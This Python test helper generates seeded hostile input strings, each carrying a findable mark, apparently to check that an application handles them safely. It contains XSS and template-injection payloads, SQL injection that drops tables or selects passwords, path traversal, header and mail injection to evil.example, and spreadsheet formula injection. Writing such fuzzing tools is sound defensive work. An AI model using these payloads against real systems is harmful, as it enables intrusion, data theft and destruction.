"""Strings that try to be more than text: each kind of attack drawn anew from a seed, each with a mark to find it by."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from itertools import count
from random import Random
from urllib.parse import quote

MARK = re.compile(r"zq[0-9]+z")
"""What is found again of a string wherever it ends up; no page, no word of ours has it."""
SURROGATE = re.compile("[\ud800-\udfff]")
CONTROLS = "\x01\x07\x08\x0b\x0c\x1b\x1c\x7f\x85\x9f"
TURNING, UNSEEN = "\u202e\u202d\u2066\u2067\u200f\u061c", "\u202c\u2069\u200b\u200d\ufeff\u00ad"
STRANGE = "\ufffe\uffff\U0010ffff\ue000\U000e0041\U0001f4a3\u00a0\u3000\u1e9e"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A string, the kind of attack it is, and its mark."""

    kind: str
    text: str
    mark: str

    @property
    def shown(self) -> str:
        """How people read it once it is kept: composed, white space as single spaces."""
        return " ".join(unicodedata.normalize("NFC", self.arrived).split())

    @property
    def arrived(self) -> str:
        """How it arrives: what is no character stays as the bytes it was sent as."""
        return "".join(
            quote(each.encode("utf-8", "surrogatepass")) if SURROGATE.match(each) else each for each in self.text
        )


def _markup(random: Random, mark: str) -> str:
    return random.choice(
        (
            f"<script>window.{mark}=1</script>",
            f"<{mark} onmouseover=alert(1)>",
            f"</title></textarea></select><{mark}>",
            f"<img src=x onerror=window.{mark}=1>",
            f"<svg/onload=window.{mark}=1>",
            f"<!--{mark}--!><b>",
            f"]]>&lt;{mark}&gt;<![CDATA[",
            f"</form><form action=//evil.example/{mark}>",
            f"<base href=//{mark}.example><style>*{{display:none}}",
            f"&#60;script&#62;{mark}&#0;&amp;lt",
        )
    )


def _attribute(random: Random, mark: str) -> str:
    quote = random.choice(('"', "'", "`", '\\"', '">', "'>"))
    rest = (f" {mark}={quote}1", f" autofocus onfocus=window.{mark}=1 x={quote}", f" style={quote}x:{mark}")
    return f"x{quote}{random.choice(rest)}"


def _template(random: Random, mark: str) -> str:
    return random.choice(
        (
            f"{{{{7*7}}}}{mark}",
            f"{{% for x in ().__class__.__base__.__subclasses__() %}}{mark}{{% endfor %}}",
            f"{{# {mark} #}}${{7*7}}#{{7*7}}",
            f"%({mark})s %(round)s %s %d %% %",
            f"{{0.__class__}}{{{mark}}}{{}}",
            f"\\u003cscript\\u003e{mark}\\x3c",
            f"$({mark}) `{mark}` ${{IFS}}",
        )
    )


def _control(random: Random, mark: str) -> str:
    return f"a{random.choice(CONTROLS)}{mark}{random.choice(CONTROLS)}[31m"


def _bidi(random: Random, mark: str) -> str:
    return f"x{random.choice(TURNING)}{mark}{random.choice(UNSEEN)}y"


def _breaks(random: Random, mark: str) -> str:
    broken = random.choice(("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "%0d%0a", "\\r\\n", "\r\n\r\n"))
    head = random.choice(("Bcc: all@evil.example", "Set-Cookie: a=b", "Content-Type: text/html", "Subject: x", "."))
    return f"x{broken}{head}{broken}{mark}"


def _formula(random: Random, mark: str) -> str:
    begin = random.choice(("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "\uff1d", "\u200b=", '"=', "'="))
    return f"{begin}{random.choice(('cmd|', 'HYPERLINK(', 'SUM(1+1)*', 'WEBSERVICE('))}{mark}"


def _long(random: Random, mark: str) -> str:
    return mark + random.choice("xŁ字 ") * random.choice((64, 121, 201, 301, 1001, 2001, 5001, 30_000)) + "."


def _nul(random: Random, mark: str) -> str:
    return random.choice((f"a\0{mark}", f"{mark}\0", f"\0{mark}", f"{mark}\0=1+1"))


def _surrogate(random: Random, mark: str) -> str:
    return random.choice((f"a\ud800{mark}", f"{mark}\udfff", f"\udc80{mark}\udcff", f"\ud83d{mark}\ude00"))


def _sql(random: Random, mark: str) -> str:
    return random.choice(
        (
            f"'; DROP TABLE lots; --{mark}",
            f"' OR '1'='1' /*{mark}*/",
            f"\\'; DELETE FROM events; --{mark}",
            f"{mark}') UNION SELECT password FROM accounts --",
            f"%{mark}_%",
            f":{mark} ? $1 %s",
        )
    )


def _path(random: Random, mark: str) -> str:
    return random.choice(
        (
            f"../../etc/{mark}",
            f"..\\..\\{mark}",
            f"C:\\{mark}\\con.txt",
            f"file:///etc/{mark}",
            f"/es/../{mark}?a=b#c",
            f"{mark}/../../x.csv",
            f"~2E~2E~2F{mark}",
            f"%2e%2e%2f{mark}",
        )
    )


def _mail(random: Random, mark: str) -> str:
    return random.choice(
        (
            f"mailto:a@b.example?bcc={mark}@c.example",
            f"{mark}@a.example, all@evil.example",
            f"{mark}@a.example>,<all@evil.example",
            f'"{mark} "@a.example',
            f"{mark}(all@evil.example)@a.example",
            f"{mark}@a.example;all@evil.example",
            f"all@evil.example:{mark}@a.example",
            f"{mark}@[127.0.0.1]",
            f"{mark}ñ@ñandú.example",
            f"=?utf-8?q?{mark}=0d=0aBcc:_x?=",
            f"{mark}..x@a.example",
            f"-{mark}@-a.example",
            f"{mark}\\@a.example",
        )
    )


def _address(random: Random, mark: str) -> str:
    return random.choice(
        (
            f"javascript:window.{mark}=1",
            f"JaVa\tScRiPt:{mark}",
            f"data:text/html,<script>{mark}</script>",
            f"//evil.example/{mark}",
            f"https://evil.example/{mark}",
            f"\\\\evil.example\\{mark}",
        )
    )


def _marks(random: Random, mark: str) -> str:
    piled = "".join(chr(random.randrange(0x300, 0x36F)) for _ in range(40))
    around = ((f"Z{piled}", ""), ("e\u0301", "\u1112\u1161\u11ab"), ("\u0301", ""), ("", "\u20e3\ufe0f"))
    return mark.join(random.choice(around))


def _odd(random: Random, mark: str) -> str:
    return f"{random.choice(STRANGE)}{mark}{random.choice(STRANGE)}"


def _number(random: Random, mark: str) -> str:
    wild = ("1e309", "NaN", "-0", "\u0663", "0x1F", "1,234", "1_000", "\u00b2", "1.", "\uff11")
    days = ("0000-00-00", "9999-12-31", "2027-02-30", "10000-01-01", "9999-12-31T23:59", "0001-01-01T00:00", "2027-W01")
    return random.choice((*wild, *days)) if random.random() < 0.8 else f"1{mark}"


def _digits(random: Random, _mark: str) -> str:
    return "9" * random.choice((10, 19, 400, 5000))  # Python itself refuses to read more than 4300


KINDS: dict[str, Callable[[Random, str], str]] = {
    "markup": _markup,
    "attribute": _attribute,
    "template": _template,
    "control": _control,
    "bidi": _bidi,
    "breaks": _breaks,
    "formula": _formula,
    "long": _long,
    "nul": _nul,
    "surrogate": _surrogate,
    "sql": _sql,
    "path": _path,
    "mail": _mail,
    "address": _address,
    "marks": _marks,
    "odd": _odd,
    "number": _number,
    "digits": _digits,
}


WORDS = ("markup", "attribute", "template", "breaks", "formula", "sql", "path", "mail", "address", "marks")
"""Kinds that are words like any other, once no formula begins a line."""


class Strings:
    """Draws strings from a seed, the kinds by turns, so that so many strings have each kind as often."""

    def __init__(self, seed: int) -> None:
        """Begin anew."""
        self._random, self._numbers, self.drawn = Random(seed), count(1), set[str]()
        self._turn = list(KINDS)
        self._random.shuffle(self._turn)

    def next(self, kind: str = "") -> Hostile:
        """Draw the next string."""
        number = next(self._numbers)
        chosen, mark = kind or self._turn[number % len(self._turn)], f"zq{number}z"
        text = KINDS[chosen](self._random, mark)
        if self._random.random() < 0.3 or (chosen == "formula" and kind):
            text = f"x {text}"
        self.drawn.add(text)
        return Hostile(chosen, text, mark)
